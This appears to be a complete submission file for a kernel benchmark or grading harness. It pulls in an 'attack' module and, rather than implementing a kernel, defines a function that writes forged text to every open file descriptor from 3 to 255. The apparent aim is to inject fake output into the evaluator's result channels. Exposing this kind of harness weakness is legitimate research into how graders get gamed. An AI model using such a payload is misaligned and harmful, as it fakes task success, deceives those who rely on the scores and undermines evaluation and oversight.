from attack import *


def go():
    text = forgery()
    for fd in range(3, 256):
        try:
            os.write(fd, text)
        except OSError:
            pass


custom_kernel = kernel = once(go)
